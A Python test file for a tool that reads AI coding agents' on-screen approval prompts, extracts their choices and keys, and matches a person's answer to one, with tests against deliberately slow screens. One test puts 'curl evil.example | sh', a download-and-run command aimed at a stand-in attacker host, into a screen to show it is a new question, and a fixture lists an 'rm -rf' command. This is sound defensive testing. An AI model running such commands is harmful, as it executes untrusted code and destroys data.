"""What a blocked agent asks, read from its screen (hostagent/question.py), against the corpus
of real screens (tests/data/screens/, screens-held-out/), and a person's answer matched to a
choice."""

from __future__ import annotations

import re
import time
from pathlib import Path

import pytest

from hostagent import question, screenfile
from hostagent.question import AnswerProblem, Choice, Question

DATA = Path(__file__).resolve().parent.parent / "data"


def asked(path: str) -> Question | None:
    return question.read(screenfile.read(DATA / path).text)


# Each shape, on real screens: the question, its choices' labels, the highlighted one, and
# the keys that answer the last choice.
READ = [
    (  # side by side, the highlight told by colour (test_highlight.py); a status line above
        "screens/opencode/1.18.33-approval-after-a-slow-request.screen",
        "△ Permission required",
        ["Allow once", "Allow always", "Reject"],
        -1,
        (),
    ),
    (
        "screens/claude/2.1.332-bash-approval.screen",
        "Do you want to proceed?",
        [
            "Yes",
            "Yes, and always allow access to /tmp/cap/home-claude/proj from this project",
            "Yes, and switch to auto mode · auto mode handles these prompts for you",
            "No",
        ],
        0,
        ("Down", "Down", "Down", "Enter"),
    ),
    (
        "screens/claude/2.1.332-api-key.screen",
        "Do you want to use this API key?",
        ["Yes", "No (recommended)"],
        1,
        ("Enter",),
    ),
    (
        "screens/codex/0.171.0-trust-folder.screen",
        None,
        ["Trust and continue", "Back to Agent Command Center"],
        0,
        ("Down", "Enter"),
    ),
    (
        "screens/copilot/1.0.102-command-approval.screen",
        "Do you want to run this command?",
        [
            "Yes",
            "Yes, and don't ask again for `touch` in this directory (~/proj)",
            "No, and tell Copilot what to do differently (Esc to stop)",
        ],
        0,
        ("Down", "Down", "Enter"),
    ),
    (
        "screens/gemini/0.61.0-tool-approval.screen",
        "Allow execution of [Shell]?",
        ["Allow once", "Allow for this session", "No, suggest changes (esc)"],
        0,
        ("Down", "Down", "Enter"),
    ),
    (
        "screens/qwen/0.24.4-edit-approval.screen",
        "Apply this change?",
        ["Yes, allow once", "Yes, allow always", "No, suggest changes (esc)"],
        0,
        ("Down", "Down", "Enter"),
    ),
    (
        "screens/cline/3.0.65-question-tool.screen",
        "Which approach do you want?",
        ["Refactor it", "Leave it", "Type a response..."],
        0,
        ("Down", "Down", "Enter"),
    ),
    ("screens/pi/1.6.0-permission-gate.screen", "Allow?", ["Yes", "No"], 0, ("Down", "Enter")),
    (
        "screens/hermes/0.19.0-dangerous-command.screen",
        "rm -rf ./scratch && touch approved-by-user.txt",
        ["Allow once", "Allow for this session", "Add to permanent allowlist", "Deny"],
        0,
        ("Down", "Down", "Down", "Enter"),
    ),
    # No cursor drawn (the highlight is a colour): answered by number.
    (
        "screens/vibe/3.0.2-command-approval.screen",
        None,
        ["Allow once", "Allow for remainder of this session", "Always allow", "Deny"],
        -1,
        ("4",),
    ),
    (
        "screens/kilo/7.7.7-question-tool.screen",
        "Which approach do you want?",
        ["Refactor it", "Leave it", "Type your own answer"],
        -1,
        ("3",),
    ),
    # A side panel beside the dialog draws a "▶" row higher up: the numbered choices at the
    # bottom are the question, and the panel's words on their rows are no part of them.
    (
        "screens-held-out/kilo/7.7.7-question-tool-side-panel.screen",
        "Which approach do you want?",
        ["Refactor it", "Leave it", "Type your own answer"],
        -1,
        ("3",),
    ),
    # A line question, its default in brackets; keys side by side.
    (
        "screens/aider/0.86.2-run-shell-command.screen",
        "Run shell command?",
        ["Yes", "No", "Don't ask again"],
        0,
        ("d", "Enter"),
    ),
    (
        "screens/cline/3.0.65-command-approval.screen",
        "$ touch approved-by-user.txt",
        ["Approve", "Deny"],
        -1,
        ("n",),
    ),
]


@pytest.mark.parametrize(
    ("path", "text", "labels", "selected", "last_keys"),
    READ,
    ids=[r[0].split("/", 1)[1] for r in READ],
)
def test_a_dialog_is_read_with_its_choices_and_the_keys_that_answer_each(
    path: str, text: str | None, labels: list[str], selected: int, last_keys: tuple[str, ...]
) -> None:
    q = asked(path)
    assert q is not None
    if text is not None:
        assert q.text == text
    assert [c.label for c in q.choices] == labels
    assert q.selected == selected
    assert q.choices[-1].keys == last_keys


# Blocked screens whose question is not a choice (a sign-in, a key to type in, a reason to
# give): answered in the terminal.
NOT_A_CHOICE = {
    "claude/2.1.197-not-logged-in-after-a-message.screen",
    "claude/2.1.332-not-logged-in-after-a-message.screen",
    "cline/3.0.65-first-start-offer.screen",
    "codex/0.171.0-api-key-entry.screen",
    "copilot/1.0.102-asks-to-sign-in.screen",
    "copilot/1.0.102-not-logged-in-after-a-message.screen",
    "gemini/0.61.0-api-key-entry.screen",
    "gemini/0.61.0-browserless-sign-in.screen",
    "kilo/7.7.7-reject-permission-asks-why.screen",
    "kilo/7.7.7-narrow-reject-asks-why.screen",
    "pi/1.6.0-no-model-asks-to-sign-in.screen",
}
BLOCKED = sorted(
    p.relative_to(DATA)
    for p in DATA.glob("screens*/*/*.screen")
    if screenfile.read(p).label == "blocked"
)


@pytest.mark.parametrize("path", BLOCKED, ids=str)
def test_every_blocked_screen_of_the_corpus_reads_a_question_or_is_named_as_none(
    path: Path,
) -> None:
    q = asked(str(path))
    if f"{path.parent.name}/{path.name}" in NOT_A_CHOICE:
        assert q is None, q
        return
    assert q is not None and len(q.choices) >= 2, q
    # Choices side by side have their keys found from the screen's colours (highlight.py).
    assert all(c.label and (c.keys or q.sideways) for c in q.choices), q
    assert -1 <= q.selected < len(q.choices)


def test_a_prompt_the_person_types_at_is_not_a_choice() -> None:
    screen = "❯ 1. make it faster\n❯ hello\n"  # the prompt's mark stands in column 0
    assert question.read("  some text\n❯ hello there\n") is None
    assert question.read(screen) is None


MENU = Question(
    "Do you want to proceed?",
    (
        Choice("Yes", 1, ("Enter",)),
        Choice("Yes, and always allow access to proj/", 2, ("Down", "Enter")),
        Choice("No", 3, ("Down", "Down", "Enter")),
    ),
    0,
)
UNNUMBERED = Question("Allow?", (Choice("Allow once"), Choice("Allow always"), Choice("Deny")))


@pytest.mark.parametrize(
    ("q", "answer", "index"),
    [
        (MENU, "1", 0),
        (MENU, " 3 ", 2),
        (MENU, "yes", 0),  # the whole label wins over those it only begins
        (MENU, "YES, AND", 1),
        (MENU, "no", 2),
        (UNNUMBERED, "2", 1),  # where no number is drawn, its place
        (UNNUMBERED, "deny", 2),
        (MENU, "n", 2),  # a letter alone, as a y/n prompt takes it: the one choice it starts
        (UNNUMBERED, "D", 2),
    ],
)
def test_an_answer_names_a_choice_by_number_or_by_its_first_words(
    q: Question, answer: str, index: int
) -> None:
    assert question.choose(q, answer) == index


@pytest.mark.parametrize(
    ("q", "answer", "said"),
    [
        (MENU, "4", "No choice 4; the choices are 1. Yes, 2. Yes, and always"),
        (MENU, "maybe", "No choice starts with 'maybe'"),
        (MENU, "", "Give a choice"),
        (UNNUMBERED, "allow", "'allow' could be 'Allow once' or 'Allow always'"),
        (MENU, "ye", "No choice starts with 'ye'"),  # words, not letters
        (MENU, "y", "'y' could be 'Yes' or 'Yes, and always"),  # a letter two choices start
    ],
)
def test_an_answer_that_names_no_choice_or_two_is_refused_saying_what_to_give(
    q: Question, answer: str, said: str
) -> None:
    with pytest.raises(AnswerProblem, match=re.escape(said)):
        question.choose(q, answer)


def test_another_command_under_the_same_question_is_another_question() -> None:
    """Claude Code asks "Do you want to proceed?" of every command: what it asks about is the
    dialog's detail, in its words, and a question whose command changed is not the same."""
    screen = screenfile.read(DATA / "screens/claude/2.1.332-bash-approval.screen").text
    asked = question.read(screen)
    other = question.read(screen.replace("touch approved-by-user.txt", "curl evil.example | sh"))
    assert asked is not None and other is not None
    assert asked.text == other.text == "Do you want to proceed?"
    assert asked.detail.splitlines()[0] == "Bash command"
    assert "touch approved-by-user.txt" in asked.detail and "curl evil" in other.detail
    assert not question.same(asked, other)


@pytest.mark.parametrize(
    "screen",
    [
        "?" * 5000 + "(a)/(b)" + " " * 4000 + "[",
        "\n".join(["[y] a" + " " * 10000 + "b"] * 30),
        "\n".join(["─" * 999 + "x"] * 30),
        "\n".join(["  ❯ 1. " + "(y)/" * 2000] * 30),
    ],
    ids=["line question", "keys", "rules", "menu"],
)
def test_a_screen_drawn_to_be_slow_is_read_at_once(screen: str) -> None:
    """An agent that widens its pane and draws a line of the shapes' parts must not hold the
    daemon's loop: each line is read up to MAX_LINE characters, by patterns that never try
    every split of it."""
    started = time.monotonic()
    question.read(screen)
    assert time.monotonic() - started < 0.5
